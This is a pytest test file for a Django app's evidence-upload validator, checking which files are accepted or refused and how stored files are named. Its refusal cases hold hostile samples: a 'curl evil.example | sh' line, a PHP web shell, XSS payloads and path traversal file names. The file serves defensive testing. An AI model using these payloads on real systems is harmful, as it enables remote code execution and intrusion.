"""Evidence uploads (`tracker.evidence.check_upload`) and how the workflow stores them."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.factories import PDF_BYTES, stored_bytes, stored_files
from tracker import workflow
from tracker.evidence import OLE_MAGIC, check_upload
from tracker.models import ActionPlan, Evidence, Update


def png_bytes() -> bytes:
    """A real 1x1 white PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff"))
        + chunk(b"IEND", b"")
    )


JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
OLE_BYTES = OLE_MAGIC + b"\x00" * 504
CONTENT_TYPES_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def ooxml(main_part: str) -> bytes:
    return zip_bytes({"[Content_Types].xml": CONTENT_TYPES_XML, main_part: b"<?xml version='1.0'?><root/>"})


DOCX_BYTES = ooxml("word/document.xml")
XLSX_BYTES = ooxml("xl/workbook.xml")
PPTX_BYTES = ooxml("ppt/presentation.xml")


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


# Accepted ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("profile.pdf", PDF_BYTES, "application/pdf"),
        ("chart.png", png_bytes(), "image/png"),
        ("photo.jpg", JPEG_BYTES, "image/jpeg"),
        ("photo.JPEG", JPEG_BYTES, "image/jpeg"),
        ("minutes.docx", DOCX_BYTES, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("analysts.xlsx", XLSX_BYTES, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("briefing.pptx", PPTX_BYTES, "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
        ("old-minutes.doc", OLE_BYTES, "application/msword"),
        ("old-figures.xls", OLE_BYTES, "application/vnd.ms-excel"),
        ("figures.csv", b"reference,status\nR1,open\nR2,closed\n", "text/csv"),
        ("notes.txt", "SOC local profile refreshed — see section 2.\n".encode(), "text/plain"),
        ("notes-bom.txt", b"\xef\xbb\xbfUTF-8 with a byte order mark.\n", "text/plain"),
        ("legacy.txt", b"Caf\xe9 meeting notes, \x93quoted\x94.\n", "text/plain"),
        ("Board paper v2.1 (final).pdf", PDF_BYTES, "application/pdf"),
    ],
    ids=lambda value: value if isinstance(value, str) and "/" not in value else None,
)
def test_it_accepts_a_valid_file(name, data, content_type):
    file = upload(name, data)

    checked = check_upload(file)

    assert checked.name == name
    assert checked.content_type == content_type
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert file.read() == data  # left at the start, ready to be stored


def test_a_file_exactly_at_the_size_limit_is_accepted(settings):
    settings.EVIDENCE_MAX_BYTES = len(PDF_BYTES)
    assert check_upload(upload("profile.pdf", PDF_BYTES)).size == len(PDF_BYTES)


# Refused ----------------------------------------------------------------------------------------

MZ_BYTES = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"This program cannot be run in DOS mode."
)
ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


@pytest.mark.parametrize(
    ("name", "data"),
    [
        pytest.param("empty.pdf", b"", id="empty"),
        pytest.param("notes.rtf", b"{\\rtf1 notes}", id="unknown-extension"),
        pytest.param("archive.zip", DOCX_BYTES, id="zip-extension"),
        pytest.param("evidence", PDF_BYTES, id="no-extension"),
        pytest.param("evidence.pdf.", PDF_BYTES, id="trailing-dot"),
        pytest.param("animation.gif", b"GIF89a\x01\x00\x01\x00", id="gif"),
        pytest.param("page.html", b"<p>Done</p>", id="html-extension"),
        pytest.param("report.pdf", MZ_BYTES, id="windows-executable-renamed-pdf"),
        pytest.param("notes.txt", MZ_BYTES, id="windows-executable-renamed-txt"),
        pytest.param("notes.txt", ELF_BYTES, id="elf-renamed-txt"),
        pytest.param("figures.csv", b"#!/bin/sh\ncurl evil.example | sh\n", id="shell-script-renamed-csv"),
        pytest.param("notes.txt", b"<html><body>Signed off</body></html>", id="html-in-txt"),
        pytest.param("notes.txt", b"\n  <!DOCTYPE html>\n<p>hi</p>", id="doctype-in-txt"),
        pytest.param("figures.csv", b"a,b\n<script>alert(1)</script>,2\n", id="script-in-csv"),
        pytest.param("notes.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', id="svg-in-txt"),
        pytest.param("notes.txt", b"Notes\x00with NUL", id="binary-in-txt"),
        pytest.param("notes.txt", "UTF-16 notes".encode("utf-16"), id="utf16-in-txt"),
        pytest.param("report.exe.pdf", PDF_BYTES, id="double-extension-exe"),
        pytest.param("minutes.js.txt", b"Minutes", id="double-extension-js"),
        pytest.param("chart.svg.png", png_bytes(), id="double-extension-svg"),
        pytest.param("profile.pdf", b"Not really a PDF", id="text-renamed-pdf"),
        pytest.param("chart.png", PDF_BYTES, id="pdf-renamed-png"),
        pytest.param("photo.jpg", png_bytes(), id="png-renamed-jpg"),
        pytest.param("profile.pdf", PDF_BYTES + DOCX_BYTES, id="pdf-with-zip-appended"),
        pytest.param("chart.png", png_bytes() + DOCX_BYTES, id="png-with-zip-appended"),
        pytest.param("photo.jpg", JPEG_BYTES + DOCX_BYTES, id="jpeg-with-zip-appended"),
        pytest.param("chart.png", png_bytes()[:33] + b"<html><script>alert(1)</script>", id="png-html-polyglot"),
        pytest.param("profile.pdf", b"%PDF-1.4\n<HTML><body onload=x()>" + PDF_BYTES, id="pdf-html-polyglot"),
        pytest.param(
            "photo.jpg", JPEG_BYTES[:20] + b"<svg onload=alert(1)>" + JPEG_BYTES[20:], id="jpeg-svg-polyglot"
        ),
        pytest.param("notes.txt", b"<?php system($_GET['c']); ?>", id="php-in-txt"),
        # Anywhere in the file, not only at its start (the check once read the first 4,096 characters).
        pytest.param("notes.txt", b"Minutes.\n" * 2000 + b"<script>alert(1)</script>", id="script-after-18k-in-txt"),
        pytest.param("figures.csv", b"a,b\n" + b"1,2\n" * 5000 + b"<iframe src=x>,3\n", id="iframe-late-in-csv"),
        pytest.param("notes.txt", b"Minutes\n<body onload=x()>", id="body-in-txt"),
        pytest.param("report.php5.pdf", PDF_BYTES, id="double-extension-php5"),
        pytest.param("report.aspx.png", png_bytes(), id="double-extension-aspx"),
        pytest.param("minutes.docx", zip_bytes({"word/document.xml": b"<w/>"}), id="zip-without-content-types"),
        pytest.param("minutes.docx", XLSX_BYTES, id="spreadsheet-renamed-docx"),
        pytest.param("analysts.xlsx", DOCX_BYTES, id="document-renamed-xlsx"),
        pytest.param("minutes.docx", b"PK\x03\x04 truncated archive", id="broken-zip-docx"),
        pytest.param("minutes.docx", OLE_BYTES, id="ole-renamed-docx"),
        pytest.param("old-minutes.doc", DOCX_BYTES, id="zip-renamed-doc"),
        pytest.param("old-figures.xls", b"a,b\n1,2\n", id="csv-renamed-xls"),
    ],
)
def test_it_refuses_a_bad_file(name, data):
    with pytest.raises(ValidationError):
        check_upload(upload(name, data))


def test_it_refuses_a_file_over_the_size_limit(settings):
    settings.EVIDENCE_MAX_BYTES = len(PDF_BYTES) - 1
    with pytest.raises(ValidationError, match="at most"):
        check_upload(upload("profile.pdf", PDF_BYTES))


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.pdf",
        "/etc/passwd.pdf",
        "a\\b.pdf",
        "..\\..\\windows\\win.ini.pdf",
        "evidence/../../settings.pdf",
        "..pdf",
        ".hidden.pdf",
        "report.pdf\x00.exe",
        "report\nX-Injected: yes.pdf",
        "report\r.pdf",
        "invoice\u202ecod.pdf",
        "zero\u200bwidth.pdf",
        "",
        "   ",
        "x" * 197 + ".pdf",
    ],
)
def test_it_refuses_a_name_that_is_not_a_plain_file_name(name):
    # ContentFile keeps the name as given, as an API client's file would arrive; browsers' uploads
    # are trimmed to a base name by Django first (next test) but the check must not rely on that.
    with pytest.raises(ValidationError):
        check_upload(ContentFile(PDF_BYTES, name=name))


def test_a_browser_upload_keeps_only_the_base_name_or_is_refused():
    assert check_upload(upload("../../etc/passwd.pdf", PDF_BYTES)).name == "passwd.pdf"
    with pytest.raises(ValidationError):
        check_upload(upload("a\\b.pdf", PDF_BYTES))  # a Windows path is not a POSIX path: refused outright


# Through the workflow ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "files",
    [
        [upload("report.pdf", MZ_BYTES)],
        [upload("report.exe.pdf", PDF_BYTES)],
        [upload("empty.pdf", b"")],
        [upload("profile.pdf", PDF_BYTES), upload("notes.txt", b"<html>Signed off</html>")],
    ],
    ids=["executable", "double-extension", "empty", "good-then-bad"],
)
def test_a_bad_file_stops_the_whole_progress_update(files, staff, plan):
    version, percent = plan.version, plan.percent_complete

    with pytest.raises(ValidationError):
        workflow.record_progress(plan=plan, user=staff, note="Evidence attached.", percent_complete=90, files=files)

    assert not Update.objects.exists()
    assert not Evidence.objects.exists()
    assert stored_files() == []
    plan.refresh_from_db()
    assert (plan.version, plan.percent_complete) == (version, percent)


def test_a_good_file_refused_for_the_plans_state_leaves_nothing_on_disk(staff, plan):
    ActionPlan.objects.filter(pk=plan.pk).update(status=ActionPlan.Status.SUBMITTED)
    plan.refresh_from_db()
    with pytest.raises(ValidationError):
        workflow.record_progress(plan=plan, user=staff, note="More evidence.", files=[upload("a.pdf", PDF_BYTES)])
    assert not Evidence.objects.exists()
    assert stored_files() == []


def test_a_good_file_is_stored_under_a_random_name_with_its_hash(staff, plan):
    data = PDF_BYTES + b"% analyst establishment 2024\n"

    update = workflow.record_progress(
        plan=plan, user=staff, note="Establishment figures.", files=[upload("analyst-establishment.pdf", data)]
    )

    evidence = Evidence.objects.get()
    assert evidence.update == update
    assert (evidence.original_name, evidence.size, evidence.content_type) == (
        "analyst-establishment.pdf",
        len(data),
        "application/pdf",
    )
    assert evidence.sha256 == hashlib.sha256(data).hexdigest()
    assert evidence.uploaded_by == staff
    assert "analyst" not in evidence.file.name and "establishment" not in evidence.file.name
    assert stored_bytes(evidence.file.name) == data
    assert stored_files() == [evidence.file.name]
    if settings.STORAGES["default"]["BACKEND"].endswith("FileSystemStorage"):
        assert Path(evidence.file.path).resolve().is_relative_to(Path(settings.MEDIA_ROOT).resolve())


def test_two_files_with_the_same_name_are_stored_apart(staff, plan):
    first, second = PDF_BYTES + b"% one\n", PDF_BYTES + b"% two\n"

    workflow.record_progress(
        plan=plan,
        user=staff,
        note="Two versions.",
        files=[upload("minutes.pdf", first), upload("minutes.pdf", second)],
    )

    stored = [stored_bytes(evidence.file.name) for evidence in Evidence.objects.order_by("pk")]
    assert stored == [first, second]
    assert len({evidence.file.name for evidence in Evidence.objects.all()}) == 2
